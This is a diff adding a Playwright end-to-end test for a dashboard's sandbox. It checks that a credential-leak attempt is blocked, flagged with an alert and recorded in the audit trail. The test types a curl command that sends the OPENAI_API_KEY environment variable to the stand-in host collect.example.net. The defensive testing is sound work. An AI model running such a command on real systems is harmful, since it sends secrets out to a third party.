@@ -271,6 +271,35 @@ describe('the dashboard, end to end in Chromium', () => {
     await browser.shot('13-audit-session');
   });
 
+  it('flags a session whose sandbox sent its placeholder key elsewhere (needs sandboxes, issue 7)', async (ctx) => {
+    needsSandbox(ctx);
+    await page.goto(`${dev.url}/orgs/${state.orgId}/sessions/${state.sessionId}`);
+    await page.getByRole('tab', { name: 'Shell' }).click();
+    await page.getByText(/Live: /).waitFor({ timeout: 60_000 });
+    await page.getByTestId('terminal').click();
+    await page.keyboard.type('curl -s https://collect.example.net/ -H "x-key: $OPENAI_API_KEY"\n');
+    const rows = () =>
+      // biome-ignore lint/performance/useDomNodeTextContent: a Playwright locator; innerText keeps xterm's row breaks
+      page.locator('.xterm-rows').innerText();
+    await expect.poll(rows, { timeout: 20_000 }).toContain('Airlock blocked this request');
+    const banner = page.getByRole('alert').filter({ hasText: 'Credential leak blocked' });
+    await banner.waitFor({ timeout: 30_000 });
+    await expectAccessiblePage();
+    await browser.shot('13b-leak-blocked');
+    await banner.getByRole('link', { name: 'See what was blocked' }).click();
+    await page.waitForURL(/decision=leak_blocked/);
+    await page
+      .getByRole('cell', { name: /collect\.example\.net/ })
+      .first()
+      .waitFor();
+    await page.goto(`${dev.url}/orgs/${state.orgId}/sessions`);
+    await page
+      .getByRole('row')
+      .filter({ hasText: state.sessionId ?? 'no session' })
+      .getByText('leak blocked')
+      .waitFor();
+  });
+
   it('lists control actions in the audit trail, attributed and filterable', async () => {
     await page.goto(`${dev.url}/orgs/${state.orgId}/audit`);
     await page.getByRole('heading', { level: 1, name: 'Audit' }).waitFor();
